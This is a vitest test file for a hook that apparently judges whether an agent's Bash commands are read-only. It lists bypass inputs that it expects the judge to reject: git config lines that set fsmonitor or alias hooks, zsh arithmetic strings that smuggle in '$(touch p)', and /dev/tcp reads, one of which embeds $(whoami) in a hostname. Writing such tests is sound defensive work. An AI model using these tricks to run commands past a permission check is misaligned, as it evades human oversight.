/** Lines that once passed for reading and were not: found by running real shells and git. */
import { beforeAll, describe, expect, it } from 'vitest';
import type { ReadOnlyJudge } from '../../src/main/floor/standing.ts';
import { createReadOnlyJudge } from '../../src/main/hooks/read-only/judge.ts';

let judge: ReadOnlyJudge;
beforeAll(async () => {
	judge = await createReadOnlyJudge();
});

const verdict = (command: string): boolean => judge('Bash', { command }).readOnly;

describe('an option of git behind a name is no question: it sets the value', () => {
	it.each([
		"git config core.fsmonitor 'touch /tmp/x' --list",
		"git config core.fsmonitor 'touch /tmp/x' --get",
		"git config alias.x '!touch /tmp/x' -l",
		'git config --global include.path evil --list',
		'git config --list core.pager less',
		'git config --get core.pager less more',
		'git config --get "$name" value rest',
	])('%s', (command) => expect(verdict(command)).toBe(false));
	it.each([
		'git config --list',
		'git config --global --list',
		'git config --list --show-origin',
		'git config --get user.name',
		'git config --get-regexp ^remote',
		'git config --get core.pager less',
	])('but %s asks', (command) => expect(verdict(command)).toBe(true));
});

describe('zsh evaluates as arithmetic what looks like a number’s place', () => {
	it.each([
		"exit 'path[$(touch p)]'",
		"break 'path[$(touch p)]'",
		"printf '%d' 'path[$(touch p)]'",
		"printf '%s %x' a 'path[$(touch p)]'",
		"[ -t 'path[$(touch p)]' ]",
		"x='path[$(touch p)]'; echo $path[$x]",
		"echo $path['$(touch p)']",
	])('%s', (command) => expect(verdict(command)).toBe(false));
	it.each(['exit 1', 'exit', "printf '%s\\n' hello", "printf '%-10s|%%\\n' a"])(
		'but %s is plain',
		(command) => expect(verdict(command)).toBe(true),
	);
});

describe('a target of < that is only known when it runs may be a network connection', () => {
	it.each([
		'x=1; cat < /dev/tcp/127.0.0.$x/80',
		'cat < "/dev/tcp/$(whoami).example/80"',
		'p=/dev/tcp/h/1; cat < $p',
		'cat < /dev/udp/h/1',
	])('%s', (command) => expect(verdict(command)).toBe(false));
	it.each(['cat < notes.txt', 'wc -l < src/main.ts'])('but %s reads a file', (command) =>
		expect(verdict(command)).toBe(true),
	);
});
